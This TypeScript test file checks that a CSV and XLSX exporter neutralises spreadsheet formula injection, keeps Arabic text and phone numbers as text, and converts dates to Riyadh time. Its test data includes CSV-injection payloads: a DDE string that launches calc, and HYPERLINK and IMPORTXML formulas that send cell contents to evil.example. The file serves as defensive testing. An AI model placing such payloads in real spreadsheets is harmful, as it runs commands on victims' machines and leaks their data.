import { Readable, Writable } from 'node:stream';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCsv } from '#test/tables/read-csv.ts';
import { readWorkbook } from '#test/tables/read-workbook.ts';
import { seed } from '#test/walk.ts';
import { type Cell, day, moment, money, plainText } from '../columns/cell.ts';
import { csvOf } from './csv.ts';
import { sheetOf } from './sheet.ts';
import { writeWorkbook } from './xlsx.ts';

const begins = ['=', '+', '-', '@', '|', '%', ';', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const unseen = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200e',
  '\u200f',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u2060',
  '\u00ad',
  '\0',
  '\u0007',
  ' \u200f\ufeff ',
];
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"x")',
  '1+1',
  'SUM(A1:A9)',
  "2+5+cmd|'/c calc'!A",
  'IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
  '',
];
const payloads = unseen.flatMap((mark) => begins.flatMap((begin) => bodies.map((body) => mark + begin + body)));

/** What the rule says, letter by letter: the first that is seen decides. */
function isRisky(text: string): boolean {
  for (const letter of text) {
    if (begins.includes(letter)) return true;
    if (!/[\s\p{Cc}\p{Cf}\p{DI}]/u.test(letter)) return false;
  }
  return false;
}

const letters = fc.constantFrom(
  ...begins,
  ...unseen,
  '"',
  ',',
  "'",
  '<',
  '&',
  ']]>',
  '_x000D_',
  '\ud800',
  '\uffff',
  '\u0001',
  'م',
  'ّ',
  '٣',
  '😀',
  'a',
  '7',
  '|',
  '\\',
);
const anything = fc.oneof(fc.string({ unit: letters, maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 20 }));
const generated = [...payloads, ...fc.sample(anything, { numRuns: 20_000, seed })];

async function* inBatches(rows: Cell[][]): AsyncGenerator<Cell[][]> {
  for (let from = 0; from < rows.length; from += 1000) yield rows.slice(from, from + 1000);
}

async function csv(rows: Cell[][]): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of csvOf(['Header'], inBatches(rows))) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

async function workbook(rows: Cell[][], isRightToLeft = false) {
  const chunks: Buffer[] = [];
  const out = new Writable({ write: (chunk, _, done) => (chunks.push(chunk), done()) });
  const head = { header: ['Header'], widths: [20], isRightToLeft };
  await writeWorkbook('وظائف/posts', Readable.from(sheetOf(head, inBatches(rows)), { objectMode: false }), out);
  return readWorkbook(Buffer.concat(chunks));
}

test(`T45 of ${generated.length} texts none begins a formula, and each that could is marked (seed ${seed})`, () => {
  expect(payloads.length).toBeGreaterThan(200);
  for (const text of generated) {
    const written = plainText(text);
    expect(isRisky(written), JSON.stringify(text)).toBe(false);
    expect(written, JSON.stringify(text)).toBe(isRisky(text) ? `'${text}` : text);
  }
});

test(`T45 the same texts come back from CSV as they were (seed ${seed})`, async () => {
  const file = await csv(generated.map((text) => [text.toWellFormed()]));
  expect(file.startsWith('\ufeff"Header"\r\n')).toBe(true);
  const [, ...rows] = readCsv(file.slice(1));
  expect(rows).toHaveLength(generated.length);
  for (const [index, [text]] of rows.entries()) {
    const given = generated[index]!.toWellFormed();
    // An import takes the mark away again.
    expect(isRisky(given) ? (text as string).slice(1) : text, JSON.stringify(given)).toBe(given);
  }
});

test(`T45 in XLSX every text is an inline string and there is no formula (seed ${seed})`, async () => {
  const { sheet, parts, rows } = await workbook(generated.map((text) => [text]));
  for (const part of Object.values(parts)) expect(part).not.toMatch(/<f[ >/]|<definedName|externalLink|ddeLink/);
  expect(sheet).not.toMatch(/[\ud800-\udfff](?<![\ud800-\udbff][\udc00-\udfff])(?![\udc00-\udfff])/);
  expect(rows).toHaveLength(generated.length + 1);
  for (const [index, [cell]] of rows.slice(1).entries()) {
    const text = generated[index]!;
    const readable = plainText(text).replace(/[^\t\n\r\u{20}-\u{d7ff}\u{e000}-\u{fffd}\u{10000}-\u{10ffff}]/gu, '');
    expect(cell, JSON.stringify(text)).toMatchObject({ kind: readable === '' ? cell!.kind : 'text', text: readable });
  }
});

test('T45 numbers stay numbers, phones and Arabic stay text, moments are those of Riyadh', async () => {
  const row: Cell[] = [
    -42,
    0.5,
    '+966500000123',
    '0501234567',
    'مُهندسة "أولى"، الرياض',
    money(-123_456),
    moment('2026-11-20T22:05:06.123456Z'),
    day('2026-11-21'),
    null,
  ];
  const [, read] = readCsv((await csv([row])).slice(1));
  expect(read).toEqual([
    -42,
    0.5,
    "'+966500000123",
    '0501234567',
    'مُهندسة "أولى"، الرياض',
    -1234.56,
    '2026-11-21 01:05',
    '2026-11-21',
    null,
  ]);
  const { rows } = await workbook([row]);
  const cells = rows[1]!;
  expect(cells.map(({ kind }) => kind)).toEqual([
    'number',
    'number',
    'text',
    'text',
    'text',
    'number',
    'number',
    'number',
    'empty',
  ]);
  expect(cells.slice(2, 5).map(({ text }) => text)).toEqual(["'+966500000123", '0501234567', 'مُهندسة "أولى"، الرياض']);
  expect(cells.map(({ style }) => style)).toEqual([0, 0, 0, 0, 0, 2, 3, 4, 0]);
  const date = (serial: string) => new Date(Math.round((Number(serial) - 25_569) * 86_400_000)).toISOString();
  expect([date(cells[6]!.text), date(cells[7]!.text)]).toEqual([
    '2026-11-21T01:05:06.123Z',
    '2026-11-21T00:00:00.000Z',
  ]);
});

test('an Arabic sheet runs from right to left, its header is bold and stays in view', async () => {
  const { sheet, parts, rows } = await workbook([['نص']], true);
  expect(sheet).toContain('rightToLeft="1"');
  expect(sheet).toContain('state="frozen"');
  expect(sheet).toContain('<col min="1" max="1" width="20" customWidth="1"/>');
  expect(rows[0]![0]!.style).toBe(1);
  expect(parts['xl/workbook.xml']).toContain('name="وظائف posts"');
  expect((await workbook([['text']])).sheet).not.toContain('rightToLeft');
});
